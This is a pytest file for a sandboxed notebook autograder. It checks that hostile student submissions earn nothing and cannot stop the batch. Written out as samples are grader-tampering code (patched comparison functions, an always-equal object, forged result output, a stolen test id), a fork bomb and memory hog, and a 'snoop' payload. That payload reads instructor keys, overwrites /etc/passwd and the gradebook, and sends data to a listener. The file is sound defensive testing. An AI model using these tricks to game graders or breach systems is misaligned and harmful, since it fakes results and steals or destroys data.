"""Hostile and broken submissions: each gets an exact score and status; nothing raises a score or stops the batch."""
import json

import nbformat
import pytest

from autograde import sandbox
from autograde.cli import main
from tests.grading import host_listener
from tests.paths import REPO
from tests.toy_course import ASSIGNMENT, make_course, submission

pytestmark = pytest.mark.skipif(not sandbox.available()[0], reason=f"sandbox unavailable: {sandbox.available()[1]}")

WRONG = "def double(x):\n    return 0"
RIGHT_MEAN = "def mean_rows(t):\n    return t.mean(-1)"
NB = f"{ASSIGNMENT}.ipynb"
# A bounded fork storm in a child process: 2**12 forks asked for, the sandbox's process limit caps them.
FORK_STORM = (
    "import subprocess, sys\n"
    "bomb = 'import os, time\\nfor _ in range(12):\\n    try:\\n        os.fork()\\n    except OSError:\\n        pass\\ntime.sleep(3)'\n"
    "subprocess.run([sys.executable, '-c', bomb], timeout=120)\n"
)


HOSTILE = {
    # Patching the libraries a naive grader compares with.
    "patcher": {"ex_double": "import torch, numpy, builtins\ntorch.allclose = lambda *a, **k: True\n"
                             "torch.equal = lambda *a, **k: True\nnumpy.allclose = lambda *a, **k: True\n"
                             "numpy.array_equal = lambda *a, **k: True\nbuiltins.abs = lambda x: 0\n" + WRONG, "ex_mean": RIGHT_MEAN},
    # Breaks its own kernel (every isinstance call lies): the run stops at the limit, nothing is gained.
    "kernel_breaker": {"ex_double": "import builtins\nbuiltins.isinstance = lambda *a: True\n" + WRONG, "ex_mean": RIGHT_MEAN},
    # An answer object that claims to equal anything.
    "eq_override": {"ex_double": "class Anything:\n    def __eq__(self, other): return True\n    __hash__ = None\n"
                                 "def double(x):\n    return Anything()", "ex_mean": RIGHT_MEAN},
    # Exits instead of answering, and prints fake scores.
    "exiter": {"ex_double": "print('1.0')\nprint('tensor(1.)')\ndef double(x):\n    raise SystemExit(0)", "ex_mean": RIGHT_MEAN},
    # Forges the kit's result output from inside a check, and replaces the display function.
    "forger": {"ex_double": (
        "from IPython import display as _d\n"
        "_real = _d.display\n"
        "FAKE = {'application/vnd.autograde.result+json': {'version': 2, 'fraction': 1.0, 'values': [], 'checks': []}}\n"
        "_d.display = lambda *a, **k: _real(FAKE, raw=True)\n"
        "def double(x):\n    return 0"), "ex_mean": RIGHT_MEAN},
    # Adds a cell carrying a test's grade_id before the real one.
    "duplicate_id": "special",
    # Tries the instructor's files, the gradebook and the network.
    "snoop": "special",
    # Kills its own kernel half way.
    "segfault": {"ex_double": "def double(x):\n    return 2 * x", "ex_mean": "import ctypes\nctypes.string_at(0)\n" + RIGHT_MEAN},
    "memory_hog": {"ex_double": "def double(x):\n    return 2 * x",
                   "ex_mean": "hog = []\nwhile True:\n    hog.append(bytearray(50_000_000))\n" + RIGHT_MEAN},
    "fork_storm": {"ex_double": FORK_STORM + "def double(x):\n    return 2 * x", "ex_mean": RIGHT_MEAN},
    "huge_output": {"ex_double": "print('x' * 50_000_000)\ndef double(x):\n    return 2 * x", "ex_mean": RIGHT_MEAN},
    "wrong_kernel": "special",
    "extra_files": "special",
    "empty_file": "special",
    "latin1_file": "special",
}


def _special(course, server_port):
    def raw(student, data: bytes):
        path = course / "submitted" / student / ASSIGNMENT / NB
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)

    # duplicate_id: a fake "passing" cell with the test's id placed before the real test cell
    path = submission(course, "duplicate_id", {"ex_double": WRONG, "ex_mean": RIGHT_MEAN})
    nb = nbformat.read(str(path), as_version=4)
    index = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "test_double")
    fake = nbformat.v4.new_code_cell("print('All checks passed')", metadata={"nbgrader": dict(nb.cells[index].metadata["nbgrader"])})
    nb.cells.insert(index - 1, fake)
    nbformat.write(nb, str(path))
    # snoop: reads the source and keys, writes the gradebook and keys, phones home
    snoop = (
        "import glob, os, socket\nleaked = []\n"
        f"for pattern in ['../../../source/*/*.ipynb', '../../../keys/*/*.json', '../../../*.db', '/root/*', '{course}/source/*',"
        f" '{course}/submitted/*', '{course}/*.db', '{REPO}/source/*', '{REPO}/keys/*', '{REPO}/*.db', '{REPO}/autograde/quiz/*']:\n"
        "    leaked += glob.glob(pattern)\n"
        "for target in ['../../../gradebook.db', '../../../keys/toy/toy.json', '/etc/passwd']:\n"
        "    try:\n        open(target, 'w').write('pwned')\n        leaked.append('wrote ' + target)\n    except OSError:\n        pass\n"
        f"try:\n    socket.create_connection(('127.0.0.1', {server_port}), timeout=2).send(b'leak')\n    leaked.append('net')\n"
        "except OSError:\n    pass\nprint('LEAKED', leaked)\n"
        "def double(x):\n    return 2 * x"
    )
    submission(course, "snoop", {"ex_double": snoop, "ex_mean": RIGHT_MEAN})
    # wrong_kernel: a kernelspec that does not exist here
    path = submission(course, "wrong_kernel", {"ex_double": "def double(x):\n    return 2 * x", "ex_mean": RIGHT_MEAN})
    nb = nbformat.read(str(path), as_version=4)
    nb.metadata["kernelspec"] = {"name": "julia-1.9", "display_name": "Julia", "language": "julia"}
    nbformat.write(nb, str(path))
    # extra_files: other notebooks and a large file beside the submission
    path = submission(course, "extra_files", {"ex_double": "def double(x):\n    return 2 * x", "ex_mean": RIGHT_MEAN})
    (path.parent / "scratch.ipynb").write_text(path.read_text())
    (path.parent / "data.bin").write_bytes(b"\0" * 5_000_000)
    raw("empty_file", b"")
    raw("latin1_file", path.read_text().replace("Toy assignment", "Toy assignment \u00e9t\u00e9").encode("latin-1"))


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    course = make_course(tmp_path_factory.mktemp("hostile"))
    mp = pytest.MonkeyPatch()
    mp.chdir(course)
    server, hits = host_listener()
    try:
        assert main(["release"]) == 0
        for student, answers in HOSTILE.items():
            if answers != "special":
                submission(course, student, answers)
        _special(course, server.getsockname()[1])
        config = course / "nbgrader_config.py"
        config.write_text(config.read_text() + "\nc.SandboxedExecute.memory_mb = 1536\nc.SandboxedExecute.processes = 64\n")
        assert main(["grade", ASSIGNMENT, "--json", "grades.json", "--check-timeout", "5", "--cell-timeout", "30", "--jobs", "1"]) == 0
        results = json.loads((course / "grades.json").read_text())
    finally:
        mp.undo()
        server.close()
    return course, results, hits


@pytest.mark.parametrize("student", ["patcher", "eq_override", "exiter"])
def test_tampering_with_the_checks_earns_nothing(graded, student):
    _, res, _ = graded
    assert (res[student]["cells"]["test_double"]["score"], res[student]["cells"]["test_double"]["status"]) == (0.0, "failed")
    assert res[student]["cells"]["test_mean"]["score"] == 2.0
    assert (res[student]["status"], res[student]["total"]) == ("graded", 2.0)


def test_a_kernel_broken_by_the_student_ends_the_run_with_a_reason(graded):
    _, res, _ = graded
    assert res["kernel_breaker"]["total"] == 0.0
    for cell in res["kernel_breaker"]["cells"].values():
        assert cell["status"] == "error" and "recorded no result" in cell["message"]


def test_forged_result_output_withholds_the_grade(graded):
    _, res, _ = graded
    assert res["forger"]["total"] == 0.0  # its display hook forges every later result too
    for cell in res["forger"]["cells"].values():
        assert cell["status"] == "error" and "grade withheld" in cell["message"]


def test_a_cell_with_a_stolen_test_id_does_not_replace_the_test(graded):
    _, res, _ = graded
    assert res["duplicate_id"]["cells"]["test_double"]["score"] == 0.0
    assert res["duplicate_id"]["total"] == 2.0


def test_student_code_sees_no_instructor_files_writes_nothing_and_has_no_network(graded):
    course, res, hits = graded
    assert res["snoop"]["total"] == 5.0
    graded_nb = (course / "graded" / "snoop" / ASSIGNMENT / NB).read_text()
    assert "LEAKED []" in graded_nb
    assert json.loads((course / "keys" / ASSIGNMENT / f"{ASSIGNMENT}.json").read_text())["cells"]
    assert (course / "gradebook.db").read_bytes()[:15] == b"SQLite format 3"
    assert hits == []


@pytest.mark.parametrize("student, reason", [("segfault", "kernel died"), ("memory_hog", "ran out of memory")])
def test_a_dying_kernel_costs_what_did_not_run_and_says_why(graded, student, reason):
    _, res, _ = graded
    assert res[student]["status"] == "incomplete" and reason in res[student]["reason"]
    assert res[student]["cells"]["test_double"]["score"] == 3.0
    assert res[student]["cells"]["test_mean"]["score"] == 0.0
    assert res[student]["total"] == 3.0


@pytest.mark.parametrize("student", ["fork_storm", "huge_output", "wrong_kernel", "extra_files"])
def test_bounded_abuse_and_odd_layouts_are_graded_normally(graded, student):
    _, res, _ = graded
    assert (res[student]["status"], res[student]["total"]) == ("graded", 5.0)


def test_huge_output_is_cut_in_the_graded_copy(graded):
    course, _, _ = graded
    assert (course / "graded" / "huge_output" / ASSIGNMENT / NB).stat().st_size < 5_000_000


@pytest.mark.parametrize("student, words", [("empty_file", "not a readable notebook"), ("latin1_file", "not a readable notebook")])
def test_unreadable_files_are_reported_and_the_batch_goes_on(graded, student, words):
    _, res, _ = graded
    assert res[student]["status"] == "error" and words in res[student]["reason"] and res[student]["total"] == 0.0


def test_gradebook_stays_consistent_with_the_report(graded):
    from nbgrader.api import Gradebook

    course, res, _ = graded
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        for student, result in res.items():
            if result["status"] != "error":
                assert gb.find_submission(ASSIGNMENT, student).score == pytest.approx(result["total"])
